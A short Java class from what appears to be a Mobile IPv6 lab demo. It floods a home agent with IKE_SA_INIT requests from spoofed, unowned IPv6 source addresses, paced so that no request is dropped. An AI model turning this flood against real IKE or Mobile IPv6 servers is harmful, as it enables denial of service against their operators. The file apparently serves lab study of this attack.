package mip6.lab.demo;

import mip6.linux.LinuxException;
import mip6.wire.Bytes;
import mip6.wire.Ipv6Address;

/** IKE_SA_INIT requests from addresses that are nobody's. */
final class Flood {

    private static final int AT_ONCE = 32;

    private Flood() {}

    /** {@code count} of them, not faster than they are read: none is lost in a full buffer. */
    static void of(Attacker attacker, int count) throws LinuxException, InterruptedException {
        for (int i = 0; i < count; i++) {
            if (i % AT_ONCE == 0) {
                attacker.answers();
            }
            Bytes request = attacker.init(attacker.initPayloads()).encode();
            attacker.spoof(
                    new Ipv6Address(0x2001_0db8_0bad_0000L + i, 1),
                    Plan.HOME_AGENT_ADDRESS,
                    request);
        }
    }
}
